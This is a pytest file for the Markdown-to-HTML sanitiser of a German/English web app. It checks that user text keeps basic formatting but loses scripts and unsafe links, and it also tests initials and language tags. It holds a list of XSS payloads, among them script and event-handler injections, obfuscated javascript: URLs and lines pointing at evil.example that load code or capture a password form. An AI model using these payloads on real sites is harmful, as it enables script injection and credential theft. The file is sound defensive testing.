"""Markdown from people becomes HTML that can do nothing but be read."""

import re
from html.parser import HTMLParser

import pytest
from flask import Flask

from partnering.db import BilingualText
from partnering.i18n import speaking
from partnering.markup import TAGS, initials, rich, rich_bi

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    '![x](x"onerror=alert(1))',
    "![x](https://evil.example/pixel.png)",
    '[x](https://example.org/"onmouseover=alert(1))',
    "[x]('\"><script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "# <script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "```\n</pre><script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "- <b onclick=alert(1)>x</b>",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a\u00a0href=javascript:alert(1)>x",
]


class Reader(HTMLParser):
    """What a browser would find: tags with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_but_reading_survives(attack: str):
    for tag, attributes in Reader(str(rich(attack))).tags:
        assert tag in TAGS
        assert set(attributes) <= ({"href", "rel"} if tag == "a" else set())
        assert re.match(r"(https?|mailto):", attributes.get("href", "https:") or "")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**fett** und *kursiv*", "<p><strong>fett</strong> und <em>kursiv</em></p>"),
        ("eine\nzweite Zeile", "<p>eine<br>\nzweite Zeile</p>"),
        ("# Oben", "<h3>Oben</h3>"),
        ("## Oben", "<h3>Oben</h3>"),
        ("### Oben", "<h3>Oben</h3>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3 < 4 & 5 > 4", "<p>3 &lt; 4 &amp; 5 &gt; 4</p>"),
        (
            "[x](https://example.org)",
            '<p><a href="https://example.org" rel="noopener noreferrer nofollow">x</a></p>',
        ),
        (
            "[x](mailto:jana@example.org)",
            '<p><a href="mailto:jana@example.org" rel="noopener noreferrer nofollow">x</a></p>',
        ),
    ],
)
def test_what_organisers_write_is_kept(text: str, html: str):
    assert str(rich(text)).strip() == html


@pytest.mark.parametrize(
    ("name", "letters"),
    [
        ("Jana Wittkowski", "JW"),
        ("Dr. Anna Maria von Ähren-Özdemir", "AÖ"),
        ("Lumenfold", "L"),
        ("3B GmbH", "G"),
        ("42", ""),
        ("", ""),
    ],
)
def test_a_picture_of_letters_has_the_first_and_the_last(name: str, letters: str):
    assert initials(name)[0] == letters
    assert 1 <= initials(name)[1] <= 5


def test_a_text_in_the_other_language_says_so(ctx: Flask):
    with ctx.test_request_context(), speaking("en"):
        assert str(rich_bi(BilingualText(de="Hallo"))).startswith('<div lang="de">')
        assert str(rich_bi(BilingualText(de="Hallo", en="Hello"))) == "<p>Hello</p>\n"
        assert str(rich_bi(None)) == ""
